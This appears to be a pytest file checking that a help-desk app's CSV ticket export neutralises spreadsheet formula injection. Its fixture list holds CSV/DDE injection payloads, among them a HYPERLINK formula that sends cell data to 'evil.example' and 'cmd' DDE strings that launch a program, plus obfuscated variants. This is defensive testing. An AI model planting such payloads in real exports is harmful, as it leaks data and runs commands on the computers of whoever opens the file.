"""Tickets as CSV: whole, readable by a spreadsheet, and never a formula."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.desk import Desk, NewTicket, Status, listing
from server.desk.export import COLUMNS, safe
from tests.desk.conftest import KB

_FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1',
    '",=1+1',
    "\ttext",
]


def exported(desk: Desk) -> list[dict[str, str]]:
    text = "".join(desk.tickets.export(statuses=tuple(Status)))
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("text", [f for f in _FORMULAS if not f.startswith('",')])
def test_a_formula_becomes_a_text(text: str) -> None:
    assert safe(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "充值没到账", "T-2026-000001", "a=b", "1-2", "2026-11-24", "0x12"]
)
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


@given(st.text())
def test_no_cell_begins_like_a_formula_however_it_is_read(text: str) -> None:
    cell = safe(text)
    assert cell.endswith(text)
    for read in (cell, cell.strip(), cell.lstrip("\ufeff\u200b")):
        assert read[:1] not in tuple("=+-@＝＋－＠\t\r\n")


def test_a_ticket_is_a_row_with_all_that_it_is(desk: Desk) -> None:
    new = NewTicket(
        '没到账,\n"急"',
        "zh",
        product="imwallet",
        tags=("deposit",),
        contact="ann@example.com",
        intake={"tried": "重启", "wanted": "到账"},
    )
    made = desk.tickets.create(KB, new)
    desk.tickets.update(KB, made.ticket.number, "ann", status=Status.SOLVED)
    desk.tickets.rate(made.ticket.number, made.token, 4, "好")
    (row,) = exported(desk)
    assert list(row) == COLUMNS
    assert (row["ticket_id"], row["status"], row["topic"]) == ("T-2026-000001", "solved", "deposit")
    assert row["query"] == '没到账,\n"急"'
    assert row["intake"] == "tried: 重启\nwanted: 到账"
    assert (row["satisfaction"], row["satisfaction_comment"]) == ("4", "好")
    assert row["created_at"] == row["solved_at"] == "2026-11-24T12:00:00+00:00"


@pytest.mark.parametrize("formula", _FORMULAS)
def test_what_visitors_and_agents_write_executes_nowhere(desk: Desk, formula: str) -> None:
    new = NewTicket(
        formula, "zh", contact=formula, channel=formula, product=formula, tags=(formula,)
    )
    made = desk.tickets.create(KB, new)
    desk.tickets.update(KB, made.ticket.number, formula, status=Status.ASSIGNED)
    desk.tickets.update(KB, made.ticket.number, formula, status=Status.SOLVED)
    desk.tickets.rate(made.ticket.number, made.token, 1, formula)
    (row,) = exported(desk)
    assert sum(formula.strip() in cell for cell in row.values()) == 7
    for cell in row.values():
        assert cell.strip()[:1] not in tuple("=+-@＝＋－＠")


def test_many_are_read_in_batches_and_narrowed(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(listing, "_BATCH", 2)
    for number in range(5):
        desk.tickets.create(KB, NewTicket(str(number), "zh", product=f"p{number % 2}"))
    assert [row["query"] for row in exported(desk)] == ["0", "1", "2", "3", "4"]
    assert "".join(desk.tickets.export(product="p1")).count("\r\n") == 1 + 2
